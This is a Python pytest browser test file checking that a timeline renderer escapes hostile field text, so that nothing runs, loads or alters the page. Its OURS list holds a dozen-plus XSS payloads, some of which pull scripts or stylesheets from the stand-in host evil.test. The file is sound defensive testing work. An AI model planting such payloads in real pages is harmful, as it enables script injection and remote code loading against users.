"""What a stranger wrote into any field runs nothing in a real browser, asks for nothing, and changes no element of the page."""

from __future__ import annotations

import json
import runpy
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from timeline.chronology import Chronology
from timeline.rendering import render

pytestmark = pytest.mark.browser
Show = Callable[..., Any]  # the fixture that opens a page

TESTS = Path(__file__).parents[1]
HOSTILE: Callable[..., Chronology] = runpy.run_path(str(TESTS / "rendering" / "conftest.py"))["_hostile"]
HARMLESS = "Qq"
OURS = [
    "<script>fired('script')</script>",
    "<img src=x onerror=fired('img')>",
    "\"><svg onload=fired('svg')>",
    "'><iframe srcdoc='<script>parent.fired(1)</script>'>",
    "</style></title></textarea><script src=//evil.test/x.js></script>",
    "<style>@import url(//evil.test/a.css); *{background:url(//evil.test/b)}</style>",
    "<link rel=stylesheet href=//evil.test/c.css>",
    "<base href=//evil.test/><meta http-equiv=refresh content=0;url=//evil.test>",
    "<video poster=//evil.test/d autoplay src=//evil.test/e>",
    "<math><mtext><img src=x onerror=fired('math')>",
    "x onmouseover=fired(1) autofocus onfocus=fired(2) y",
    "<!--><script>fired('comment')</script-->",
    "]]><script>fired('cdata')</script>",
    "![x](https://evil.test/track.png) [y](javascript:fired(1))",
]
# Whatever would run tells of it here; `alert` and its like are what most of these texts call.
EAR = "<!DOCTYPE html><meta charset=utf-8><script>var told = []; var fired = alert = confirm = prompt = (what) => told.push(String(what))</script>"
SHAPE = """part => [...part.querySelectorAll('*')].map(
    each => each.tagName + ' ' + [...each.attributes].map(one => one.name).sort().join(' '))"""


def texts() -> Iterator[str]:
    """Yield our hostile texts, and those of the catalogue that can stand in a field."""
    yield from OURS
    for case in json.loads((TESTS / "hostile" / "catalogue.json").read_text("utf-8")):
        if case["category"] in {"xss-text", "ssti-data", "markdown"} and case["input_kind"] == "text":
            yield case["input"]


TEXTS = [text for text in dict.fromkeys(texts()) if 0 < len(text.strip()) < 2_000]


def host(fragments: Iterator[str]) -> str:
    return EAR + "".join(f"<main>{each}</main>" for each in fragments)


def fragments(texts: list[str], *, in_prose: bool = False, **options: Any) -> Iterator[str]:
    for number, text in enumerate(texts):
        prose = text if in_prose else ""
        yield render(HOSTILE(text, prose), fragment=True, id_prefix=f"f{number}-", **options)


def test_a_template_that_escapes_nothing_does_fire(show: Show) -> None:
    """The ear hears: with the same texts, the same page and another template."""
    unescaped = {"html/meeting.html.jinja": "<p>{{ entry.title|safe }}</p>"}
    seen = show(host(fragments(OURS[:2], templates=unescaped, style=False, lanes=None)))
    seen.page.wait_for_function("told.length > 1")
    assert set(seen.page.evaluate("told")) == {"script", "img"}
    assert len(seen.asked) >= 1


@pytest.mark.parametrize("in_prose", [False, True])
def test_nothing_runs_and_nothing_is_asked_for(show: Show, *, in_prose: bool) -> None:
    """With pictures, in fields, and in prose; also where one points at every part of the page."""
    assert len(TEXTS) >= 30
    seen = show(host(fragments(TEXTS, in_prose=in_prose)))
    seen.page.evaluate("""for (const each of document.querySelectorAll('main *'))
        for (const name of ['mouseover', 'focus', 'click'])
            if (name != 'click' || !each.closest('a')) each.dispatchEvent(new Event(name, {bubbles: true}))""")
    assert (seen.asked, seen.told, seen.page.evaluate("told")) == ([], [], [])
    schemes = seen.page.evaluate(
        "[...new Set([...document.querySelectorAll('main [href]')].map(each => new URL(each.getAttribute('href'), document.baseURI).protocol))].sort()"
    )
    assert set(schemes) <= {"file:", "http:", "https:", "mailto:"}


def test_the_elements_are_those_of_a_harmless_text(show: Show) -> None:
    """Pictures break a text into as many lines as it needs, so they are left out here."""
    plain = show(host(fragments([HARMLESS], lanes=None))).page.locator("main").evaluate(SHAPE)
    seen = show(host(fragments(TEXTS, lanes=None))).page.locator("main")
    assert (len(plain) > 200, seen.count()) == (True, len(TEXTS))
    assert [TEXTS[at] for at in range(len(TEXTS)) if seen.nth(at).evaluate(SHAPE) != plain] == []


def test_a_whole_page_runs_none_of_it_either(show: Show) -> None:
    """A whole page carries a script of its own, and a policy that allows no other."""
    seen = show(render(HOSTILE(" ".join(OURS), "")))
    assert seen.asked == []
    assert seen.page.evaluate("typeof told") == "undefined"
    assert [line for line in seen.told if "fired" in line] == []


@pytest.mark.parametrize("language", ["html", "markdown"])
def test_a_fragment_has_no_blank_line_and_no_live_brace(language: str) -> None:
    """For hosts that run templates over their pages, and for Markdown, where a blank line ends HTML."""
    pages = [render(HOSTILE(text, ""), language, fragment=True) for text in TEXTS]
    assert [text for text, page in zip(TEXTS, pages, strict=True) if "{{" in page or "{%" in page or "{#" in page] == []
    if language == "html":
        assert [text for text, page in zip(TEXTS, pages, strict=True) if "\n\n" in page.strip()] == []
